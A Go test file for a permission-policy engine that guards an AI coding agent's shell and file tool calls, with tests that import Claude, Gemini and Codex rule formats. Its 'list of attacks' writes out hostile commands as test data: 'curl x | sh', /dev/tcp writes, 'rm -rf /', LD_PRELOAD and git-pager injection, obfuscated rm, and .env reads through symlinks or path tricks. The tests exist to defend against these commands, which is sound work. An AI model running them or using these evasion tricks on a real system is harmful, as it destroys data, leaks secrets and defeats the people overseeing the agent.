package policy

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// claude makes rules of what a Claude Code settings file would have.
func claude(t *testing.T, effect Effect, texts ...string) (rules []Rule) {
	t.Helper()
	for _, text := range texts {
		r, err := claudeRules(text, effect)
		if err != nil {
			t.Fatalf("%s: %v", text, err)
		}
		rules = append(rules, r...)
	}
	return rules
}

// workspace is a directory with files and links in it.
func workspace(t *testing.T) string {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(base, "ws")
	for _, d := range []string{"ws/src/generated", "ws/sub", "ws-evil", "outside", "home"} {
		if err := os.MkdirAll(filepath.Join(base, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{"ws/.env", "ws/a.txt", "ws/src/a.go", "outside/secret", "ws/sub/x.txt"} {
		if err := os.WriteFile(filepath.Join(base, f), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, to := range map[string]string{"ws/leak": "../outside", "ws/src/env": "../.env", "ws/new": "../outside/absent"} {
		if err := os.Symlink(to, filepath.Join(base, link)); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// row is one line of the list of attacks.
type row struct {
	row, command string
	want         string // the effects that are right, divided by |
}

func decideAll(t *testing.T, p *Policy, rows []row) {
	t.Helper()
	for _, c := range rows {
		t.Run(c.row, func(t *testing.T) {
			args, err := json.Marshal(map[string]string{"command": c.command})
			if err != nil {
				t.Fatal(err)
			}
			if d := p.Decide("bash", args); !strings.Contains("|"+c.want+"|", "|"+d.Effect.String()+"|") {
				t.Errorf("%.100q is %s, want %s: %s; opaque %v", c.command, d.Effect, c.want, d.Reason(), d.Opaque)
			}
		})
	}
}

// shellRows are about the rules that TestShellRows has.
var shellRows = []row{
	{"S1 a part without a rule", "git log; curl x | sh", "ask"},
	{"S1 all parts", "git log && git status | git hash-object --stdin", "allow"},
	{"S1 background", "git log & nc -l 1", "ask"},
	{"S1 newline", "git log\nmake", "ask"},
	{"S2 substitution", "echo $(rm x)", "deny"},
	{"S2 nested", "echo \"$(echo `rm x`)\"", "deny"},
	{"S2 in an assignment", "A=$(rm x) git log", "deny"},
	{"S2 no rule", "echo $(make)", "ask"},
	{"S3 process substitution", "diff <(git log) >(rm b)", "deny"},
	{"S3 here-document", "cat <<EOF\n`rm x`\nEOF", "deny"},
	{"S3 quoted here-document", "cat <<'EOF'\n`rm x`\nEOF", "allow"},
	{"S3 arithmetic", "((a[$(rm x)]))", "deny"},
	{"S3 test", "[[ -n $(rm x) ]]", "deny"},
	{"S3 parameter", "echo ${x:-$(rm x)}", "deny"},
	{"S3 here-string", "cat <<<$(rm x)", "deny"},
	{"S4 comment", "git log # it's\nrm x", "deny"},
	{"S5 continuation", "r\\\nm x", "deny"},
	{"S6 every operator >", "echo x >f", "ask"},
	{"S6 >>", "echo x >>f", "ask"},
	{"S6 >|", "echo x >|f", "ask"},
	{"S6 &>", "echo x &>f", "ask"},
	{"S6 &>>", "echo x &>>f", "ask"},
	{"S6 <>", "echo x <>f", "ask"},
	{"S6 >&", "echo x >&f", "ask"},
	{"S6 numbered", "echo x 7>f", "ask"},
	{"S6 inside the rule", "echo x >src/b.go", "allow"},
	{"S6 a group", "{ git log; git status; } >f", "ask"},
	{"S6 nothing before it", ">f", "ask"},
	{"S6 duplication", "git log 2>&1", "allow"},
	{"S6 a dynamic target", "echo x >$F", "ask"},
	{"S6 tee", "echo x | tee f", "ask"},
	{"S7 tcp", "echo x >/dev/tcp/1.2.3.4/80", "ask"},
	{"S7 udp", "cat </dev/udp/1.2.3.4/53", "ask"},
	{"S8 pager", "GIT_PAGER='rm x' git log", "ask"},
	{"S8 preload", "LD_PRELOAD=./x.so git log", "ask"},
	{"S8 export", "export BASH_ENV=x; git log", "ask"},
	{"S8 pure assignment", "PATH=.:$PATH; git log", "ask"},
	{"S8 safe", "LC_ALL=C NO_COLOR=1 git log", "allow"},
	{"S8 deny past any", "X=1 rm x", "deny"},
	{"S8 printf -v", "printf -v PATH x; git log", "ask"},
	{"S8 read", "read PATH <a.txt; git log", "ask"},
	{"S9 timeout", "timeout 5 git log", "allow"},
	{"S9 env", "env rm x", "deny"},
	{"S9 env -S", "env -S 'rm x'", "deny"},
	{"S9 env allowed as written", "env FOO=1 make", "allow"},
	{"S9 env is not transparent", "env X=1 git log", "ask"},
	{"S9 sudo allowed as written", "sudo apt update", "allow"},
	{"S9 sudo does not widen", "sudo rm x", "deny"},
	{"S9 nested", "nohup nice -n 5 stdbuf -oL timeout 9 rm x", "deny"},
	{"S9 xargs", "git ls-files | xargs rm", "deny"},
	{"S9 xargs with flags", "git ls-files | xargs -0 -n1 rm", "deny"},
	{"S9 too deep", strings.Repeat("timeout 1 ", 30) + "git log", "ask"},
	{"S9 busybox", "busybox rm x", "deny"},
	{"S9 exec", "exec rm x", "deny"},
	{"S9 command", "command rm x", "deny"},
	{"S9 absolute", "/bin/rm x", "deny"},
	{"S9 a program of one's own", "./git log", "ask"},
	{"F10 written under an allowed wrapper", "sudo apt; env FOO=1 cp a.txt .git/hooks/x", "ask"},
	{"S10 bash -c", "bash -c 'git log; git status'", "allow"},
	{"S10 bash -c denied", "bash -ec 'rm x'", "deny"},
	{"S10 nested", `bash -c "sh -c 'rm x'"`, "deny"},
	{"S10 login", "bash -lc 'git log'", "ask"},
	{"S10 dynamic", `bash -c "$X"`, "ask"},
	{"S10 eval", "eval 'git log'", "ask"},
	{"S10 eval denied", "eval rm x", "deny"},
	{"S10 trap", "trap 'rm x' EXIT", "deny"},
	{"S10 source", ". ./x.sh", "ask"},
	{"S10 python", "python3 -c 'import os'", "ask"},
	{"S10 stdin", "echo rm x | bash", "ask"},
	{"S11 find", "find . -name '*.go'", "allow"},
	{"S11 find -exec", `find . -exec wc {} \;`, "ask"},
	{"S11 find -exec as written", "find . -exec wc {} +", "allow"},
	{"S11 find -delete", "find . -delete", "ask"},
	{"S11 find -fprintf", "find . -fprintf f x", "ask"},
	{"S11 sed w", "sed -n 'w f' a.txt", "ask"},
	{"S11 sort", "sort --compress-prog=x a.txt", "ask"},
	{"S11 sort -o", "sort -o a.txt a.txt", "ask"},
	{"S11 rg --pre", "rg --pre x y", "ask"},
	{"S11 tar", "tar --checkpoint-action=exec=x -xf a", "ask"},
	{"S11 git's own commands", "git -c alias.x='!rm x' x", "deny"},
	{"S11 git's pager", "git -c core.pager='rm x' log", "deny"},
	{"S11 git's settings", "git -c core.pager=x log", "ask"},
	{"S11 git for each", "git submodule foreach 'rm x'", "deny"},
	{"S11 git for each commit", "git rebase --exec='rm x' HEAD", "deny"},
	{"S11 git until it fails", "git bisect run rm x", "deny"},
	{"S11 git runs a command", "git rebase -x make HEAD", "ask"},
	{"S11 git is not run", "git cherry-pick -x HEAD", "allow"},
	{"S9 time --", "time -- rm x", "deny"},
	{"S11 git's harmless settings", "git -c user.name='rm x' -c color.ui=never log", "allow"},
	{"S11 git's settings by the environment", "git --config-env=core.pager=X log", "ask"},
	{"S12 a bracket is a program", "[ -f a.txt ] && git log", "allow"},
	{"S12 IFS", "rm${IFS}x", "ask|deny"},
	{"S12 braces", "{rm,x}", "deny"},
	{"S12 quotes", `r""m x; "rm" x`, "deny"},
	{"S12 ansi", `$'\x72m' x`, "deny"},
	{"S12 octal", `$'\162\155' x`, "deny"},
	{"S12 dynamic name", "$X", "ask"},
	{"S12 glob name", "/bin/r? x", "ask|deny"},
	{"S13 glob", "sort *", "ask"},
	{"S13 harmless", "ls *.go", "ask"}, // with a rule on reading, nobody knows what it lists
	{"S14 cd and write", "cd sub && echo x >a", "ask"},
	{"S14 cd into the rule", "cd src && echo x >b.go", "allow"},
	{"S14 cd may fail", "cd src; echo x >b.go", "ask"},
	{"S14 dynamic", "cd $X && echo x >src/b.go", "ask"},
	{"S14 git elsewhere", "cd sub && cat x.txt", "allow"},
	{"S15 long", "echo " + strings.Repeat("a", 11_000), "ask"},
	{"S15 long and denied", "echo " + strings.Repeat("a", 11_000) + "; rm x", "deny"},
	{"S15 parts", strings.Repeat("echo a;", 51), "ask"},
	{"S16 broken", "git log &&& git status", "ask"},
	{"S16 broken and denied", "rm x &&& echo", "deny"},
	{"S16 unclosed", "git log 'x", "ask"},
	{"S17 CR", "git log\r", "ask"},
	{"S17 invisible", "git log\u200b", "ask"},
	{"S17 wide space", "git\u00a0log", "ask"},
	{"S18 word", "gitk x", "ask"},
	{"S18 spaces", "git    log", "allow"},
	{"S18 tabs", "git\tlog", "allow"},
	{"S18 one word", "'git log'", "ask"},
	{"S20 deny covers more words", "yarn", "deny"},
	{"S20 order", "git push --force origin", "deny"},
	{"S20 what may become denied", "git push $X", "ask|deny"},
	{"S21 quotes removed first", `"r"'m' x`, "deny"},
	{"S21 a word is no command", "echo rm x", "allow"},
	{"F8 home", "cat $HOME/../ws/.env", "deny"},
	{"F8 tilde", "cat ~/../ws/.env", "deny"},
	{"F8 dots", "cat ./sub/../.env", "deny"},
	{"F8 slashes", "cat .//.env", "deny"},
	{"F2 a link", "cat src/env", "deny"},
	{"F13 another reader", "tac .env", "deny"},
	{"F13 an unknown reader", "frobnicate .env", "deny"},
	{"F13 redirected", "tr a b <.env", "deny"},
	{"F13 a search through all", "grep -r x .", "ask"},
	{"F13 a search without a flag for it", "rg x", "ask"},
	{"F13 a comparison of all", "diff -r sub src", "ask"},
	{"F13 a search of one file", "grep x a.txt", "allow"},
	{"F1 beside the roots", "cat ../ws-evil/x", "ask"},
	{"F2 out by a link", "cat leak/secret", "ask"},
}

func TestShellRows(t *testing.T) {
	dir := workspace(t)
	rules := claude(t, Allow, "Bash(git *)", "Bash(echo *)", "Bash(npm run *)", "Bash(env FOO=1 make)", "Bash(find . -exec wc {} +)", "Edit(./src/**)", "Bash(sudo apt *)", "Bash(env FOO=1 cp *)")
	rules = append(rules, claude(t, Deny, "Bash(rm *)", "Bash(yarn)", "Bash(git push --force *)", "Read(./.env)")...)
	p, err := New(Config{Rules: rules, Roots: []string{dir}, Home: filepath.Join(dir, "..", "home")})
	if err != nil {
		t.Fatal(err)
	}
	rows := append(slices.Clone(shellRows), row{"F8 absolute", "cat " + dir + "/.env", "deny"})
	decideAll(t, p, rows)
}

func TestFileRows(t *testing.T) {
	dir := workspace(t)
	rules := append(claude(t, Allow, "Edit(src/**)", "Read(//"+strings.TrimPrefix(dir, "/")+"/../outside/**)"),
		claude(t, Deny, "Read(.env)", "Edit(./src/generated/**)", "Read(secrets/**)")...)
	p, err := New(Config{Rules: rules, Roots: []string{dir}})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ row, tool, path, want string }{
		{"read", "read_file", "a.txt", "allow"},
		{"F1", "read_file", "../ws-evil/x", "deny"},
		{"F1 absolute", "write_file", filepath.Join(dir, "..", "ws-evil", "x"), "deny"},
		{"F2 the link is inside, its target is denied", "read_file", "src/env", "deny"},
		{"F2 the target is outside", "read_file", "leak/secret", "deny"},
		{"F2 write through", "write_file", "leak/x", "deny"},
		{"F3 a new file through a link", "write_file", "new", "deny"},
		{"F7 case", "read_file", ".ENV", "deny"},
		{"F8 trailing slash", "read_file", ".env/", "deny"},
		{"F8 dots", "read_file", "src/../.env", "deny"},
		{"F8 double", "read_file", "src//..//.env", "deny"},
		{"F9 depth of an allow", "write_file", "src/a/b.go", "allow"},
		{"F9 not elsewhere", "write_file", "sub/src/b.go", "ask"},
		{"F9 depth of a deny", "read_file", "sub/secrets/x", "deny"},
		{"deny beats allow", "write_file", "src/generated/x.go", "deny"},
		{"what may not be read may not be written", "write_file", ".env", "deny"},
		{"F10 its own settings", "write_file", "src/.claude/settings.json", "ask"},
		{"F10 the configuration", "write_file", "toolfall.yaml", "ask"},
		{"F12 hooks", "edit_file", ".git/hooks/pre-commit", "ask"},
		{"F7 protected by any case", "write_file", "src/.GIT/config", "ask"},
	} {
		args, _ := json.Marshal(map[string]string{"path": c.path})
		if d := p.Decide(c.tool, args); d.Effect.String() != c.want {
			t.Errorf("%s: %s %s is %s, want %s: %s", c.row, c.tool, c.path, d.Effect, c.want, d.Reason())
		}
		if d := p.In(DontAsk).Decide(c.tool, args); c.want == "ask" && d.Effect != Deny {
			t.Errorf("%s: %s %s in mode dontAsk is %s", c.row, c.tool, c.path, d.Effect)
		}
	}
}

func TestModes(t *testing.T) {
	dir := workspace(t)
	p, err := New(Config{Roots: []string{dir}, Rules: claude(t, Ask, "Bash(git push *)")})
	if err != nil {
		t.Fatal(err)
	}
	for command, want := range map[string][5]Effect{ // default, acceptEdits, plan, dontAsk, bypass
		"ls":                    {Allow, Allow, Allow, Allow, Allow},
		"make":                  {Ask, Ask, Deny, Deny, Allow},
		"mkdir x && touch x/y":  {Ask, Allow, Deny, Deny, Allow},
		"rm sub/x.txt":          {Ask, Allow, Deny, Deny, Allow},
		"sed -i s/a/b/ a.txt":   {Ask, Allow, Deny, Deny, Allow},
		"sed -i s/a/b/e a.txt":  {Ask, Ask, Deny, Deny, Allow},
		"rm ../outside/secret":  {Ask, Ask, Deny, Deny, Allow},
		"cp a.txt .git/hooks/x": {Ask, Ask, Deny, Deny, Ask},
		"rm -rf /":              {Ask, Ask, Deny, Deny, Ask},
		"rm -rf ~":              {Ask, Ask, Deny, Deny, Ask},
		"rm -rf \"$X\"/*":       {Ask, Ask, Deny, Deny, Ask},
		"echo $(rm -rf /usr)":   {Ask, Ask, Deny, Deny, Ask},
		"rm -rf .":              {Ask, Ask, Deny, Deny, Ask},
		"git push":              {Ask, Ask, Deny, Deny, Ask},
		"eval x":                {Ask, Ask, Deny, Deny, Allow},
	} {
		args, _ := json.Marshal(map[string]string{"command": command})
		for i, m := range []Mode{Default, AcceptEdits, Plan, DontAsk, Bypass} {
			if d := p.In(m).Decide("bash", args); d.Effect != want[i] {
				t.Errorf("%q in mode %s is %s, want %s: %s", command, m, d.Effect, want[i], d.Reason())
			}
		}
	}
}

// What a line means in a shell that stays depends on the lines before: rules on commands
// deny or ask about it, and none allows it; the tool as a whole can be allowed.
func TestALineOfAShellThatStaysIsAskedAbout(t *testing.T) {
	rules := []Rule{
		{Effect: Allow, Tool: "bash", When: When{Command: "echo *"}}, {Effect: Allow, Tool: "shell", When: When{Command: "echo *"}},
		{Effect: Deny, Tool: "bash", When: When{Command: "rm *"}},
	}
	decide := func(mode Mode, command string, more ...Rule) *Decision {
		p, err := New(Config{Mode: mode, Roots: []string{t.TempDir()}, Rules: append(more, rules...)})
		if err != nil {
			t.Fatal(err)
		}
		raw, err := json.Marshal(map[string]string{"command": command})
		if err != nil {
			t.Fatal(err)
		}
		return p.Decide("shell", raw)
	}
	whole := Rule{Effect: Allow, Tool: "shell"}
	guarded := rules
	rules = []Rule{whole}
	alone := decide(Default, "make")
	rules = guarded
	for _, row := range []struct {
		name string
		d    *Decision
		want Effect
	}{
		{"what a rule on commands allows", decide(Default, "echo hi"), Ask},
		{"what only reads", decide(Default, "ls"), Ask},
		{"what a rule on bash denies", decide(Default, "rm x"), Deny},
		{"while planning", decide(Plan, "ls"), Deny},
		{"nobody to ask", decide(DontAsk, "ls"), Deny},
		{"the tool as a whole, where rules guard commands", decide(Default, "make", whole), Ask},
		{"the tool as a whole, and no other rule", alone, Allow},
		{"denied within the whole", decide(Default, "rm x", whole), Deny},
		{"bypass", decide(Bypass, "make"), Allow},
	} {
		if row.d.Effect != row.want || row.d.ReadOnly {
			t.Errorf("%s: %v, want %v (%s); reads only %v", row.name, row.d.Effect, row.want, row.d.Reason(), row.d.ReadOnly)
		}
	}
}

// What shows again what the same agent was shown before needs no leave, also while
// planning; a rule on it counts all the same.
func TestWhatWasPutOutMayBeReadAgain(t *testing.T) {
	for _, mode := range []Mode{Default, Plan, DontAsk} {
		p, err := New(Config{Mode: mode, Roots: []string{t.TempDir()}})
		if err != nil {
			t.Fatal(err)
		}
		if d := p.Decide("read_output", []byte(`{"id":"out_aaaaaaaaaa"}`)); d.Effect != Allow || !d.ReadOnly {
			t.Errorf("mode %v: %v", mode, d.Effect)
		}
	}
	p, err := New(Config{Roots: []string{t.TempDir()}, Rules: []Rule{{Effect: Deny, Tool: "read_output"}}})
	if err != nil {
		t.Fatal(err)
	}
	if d := p.Decide("read_output", nil); d.Effect != Deny {
		t.Errorf("a rule denies it, and it is %v", d.Effect)
	}
}

func TestClaudeRules(t *testing.T) {
	for text, want := range map[string]string{
		"Bash":                 "deny bash",
		"Bash(*)":              "deny bash",
		"Bash(npm run test:*)": "deny bash(npm run test:*)",
		"Read(./.env)":         "deny read_file(./.env), deny list_dir(./.env), deny glob(./.env), deny grep(./.env)",
		"Edit(/docs/**)":       "deny edit_file(/docs/**), deny write_file(/docs/**)",
		"WebFetch(domain:a.b)": "deny web_fetch(domain:a.b)",
		"mcp__srv":             "deny mcp__srv",
		"mcp__srv__*":          "deny mcp__srv",
		"mcp__srv__tool":       "deny mcp__srv__tool",
		"mcp__*":               "deny mcp__*",
		"Bash(timeout:600)":    "deny bash(timeout:600)",
		"Write(./x)":           "!paths are ruled by",
		"Frobnicate(x y)":      "!cannot be matched",
		"Task":                 "!no tool like",
		"Bash(":                "!want Name",
	} {
		rules, err := claudeRules(text, Deny)
		var got []string
		for _, r := range rules {
			got = append(got, r.String())
		}
		if rest, fails := strings.CutPrefix(want, "!"); fails {
			if err == nil || !strings.Contains(err.Error(), rest) {
				t.Errorf("%s: %v, want an error %q", text, err, rest)
			}
		} else if strings.Join(got, ", ") != want || err != nil {
			t.Errorf("%s is %q, %v, want %q", text, got, err, want)
		}
	}
	for _, text := range []string{"*", "mcp__*", "Ba*", "Bash(timeout:5)x"} {
		if rules, err := claudeRules(text, Allow); err == nil && len(rules) > 0 && rules[0].When.Command == "" {
			t.Errorf("%s allows %v", text, rules)
		}
	}
}

func TestDomains(t *testing.T) {
	for _, c := range []struct {
		pattern, url string
		want         bool
	}{
		{"a.com", "https://A.COM./x", true}, {"a.com", "http://a.com.evil/", false}, {"a.com", "http://a.com@evil/", false},
		{"*.a.com", "http://x.y.a.com", true}, {"*.a.com", "http://a.com", false}, {"a.*.com", "http://a.b.com", true},
		{"a.*.com", "http://a.b.c.com", false}, {"*", "http://x", true}, {"*", "file:///etc/passwd", false},
	} {
		if got := domain(c.pattern, hostOf(c.url)); got != c.want {
			t.Errorf("%s of %s is %v", c.pattern, c.url, got)
		}
	}
}

func TestImports(t *testing.T) {
	in, err := ParseGemini([]byte(`
[[rule]]
toolName = "run_shell_command"
commandPrefix = "git"
decision = "allow"
priority = 200
[[rule]]
toolName = "write_file"
argsPattern = "x"
decision = "deny"
priority = 100
[[rule]]
mcpName = "srv"
decision = "ask_user"
priority = 50
[[rule]]
decision = "allow"
priority = 1
`), "g.toml", true)
	if err != nil || len(in.Rules) != 3 || len(in.Problems) != 4 || in.Rules[1].Effect != Ask || in.Rules[2].Server != "srv" {
		t.Errorf("gemini: %v, %v, %v", in.Rules, in.Problems, err)
	}
	for name, text := range map[string]string{
		"loop":    "def f():\n  for i in range(1000000000):\n    pass\nf()",
		"load":    `load("x.star", "y")`,
		"example": `prefix_rule(pattern=["a"], match=["b"])`,
		"word":    `prefix_rule(pattern=[7])`,
		"effect":  `prefix_rule(pattern=["a"], decision="maybe")`,
	} {
		if _, err := ParseCodex([]byte(text), "x.rules", true); err == nil {
			t.Errorf("codex %s: no error", name)
		}
	}
	codex, err := ParseCodex([]byte(`prefix_rule(pattern=["a b", "*"])`+"\n"+`host_executable(name="git", paths=["/usr/bin/git"])`), "x.rules", false)
	if err != nil || len(codex.Rules) != 0 || len(codex.Problems) != 2 {
		t.Errorf("codex, untrusted: %v, %v, %v", codex.Rules, codex.Problems, err)
	}
	if _, err := ParseFile("x.ini", nil, true); err == nil {
		t.Error("an unknown kind of file: no error")
	}
}

// The rules of a policy that did not load are not silently less.
func TestABadRuleIsAnError(t *testing.T) {
	for name, r := range map[string]Rule{
		"no effect":   {Tool: "bash"},
		"two whens":   {Effect: Deny, When: When{Command: "a", Path: "b"}},
		"allow param": {Effect: Allow, Tool: "x", When: When{Param: "a", Value: "b"}},
		"primary":     {Effect: Deny, Tool: "x", When: When{Param: "command", Value: "b"}},
		"example":     {Effect: Deny, Tool: "bash", When: When{Command: "rm *"}, Match: []string{"ls"}},
		"not example": {Effect: Deny, Tool: "bash", When: When{Command: "rm *"}, NotMatch: []string{"sudo rm x"}},
	} {
		if _, err := New(Config{Rules: []Rule{r}}); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

// G1: a member of another case is another member, to the policy as to the tool.
func TestMembersOfAnotherCase(t *testing.T) {
	p, err := New(Config{Roots: []string{t.TempDir()}, Rules: claude(t, Deny, "Bash(rm *)")})
	if err != nil {
		t.Fatal(err)
	}
	for args, want := range map[string]Effect{
		`{"command":"ls","Command":"rm x"}`: Allow,
		`{"Command":"ls","command":"rm x"}`: Deny,
		`{"command":"ls","command":"rm x"}`: Deny,  // not JSON that anybody may read
		`{"COMMAND":"ls"}`:                  Allow, // no command: there is nothing in it
	} {
		if d := p.Decide("bash", json.RawMessage(args)); d.Effect != want {
			t.Errorf("%s is %s, want %s: %s", args, d.Effect, want, d.Reason())
		}
	}
}
